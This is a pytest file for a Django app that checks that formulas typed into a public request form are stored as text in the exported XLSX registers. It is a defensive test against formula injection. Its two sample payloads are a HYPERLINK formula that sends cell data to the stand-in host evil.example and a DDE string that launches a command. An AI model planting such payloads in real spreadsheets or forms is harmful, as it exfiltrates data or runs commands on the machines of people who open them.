"""The registers' XLSX hold no cell a spreadsheet would evaluate: a formula typed into the
public form by a requester stays text (formula injection; found by the break15 run)."""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from .conftest import objection_url, submit_and_confirm

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.mark.django_db
def test_a_formula_typed_by_a_requester_stays_text_in_the_registers(
    client, users, django_capture_on_commit_callbacks
):
    request = submit_and_confirm(client, django_capture_on_commit_callbacks, name=FORMULA)
    objection = client.post(
        objection_url(request),
        {
            "grounds": ["c"],
            "ground_arose_on": timezone.localdate().isoformat(),
            "case_position": "=1+cmd|' /C calc'!A0",
        },
    )
    assert objection.status_code == 302
    client.force_login(users["Atasan PPID"])
    for register in ("information_requests_admin:register", "objections_admin:register"):
        response = client.get(reverse(register), {"format": "xlsx"})
        assert response.status_code == 200
        cells = [
            cell
            for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith("=")
        ]
        assert cells, "the typed text is in the register"
        assert [cell.data_type for cell in cells] == ["s"] * len(cells)
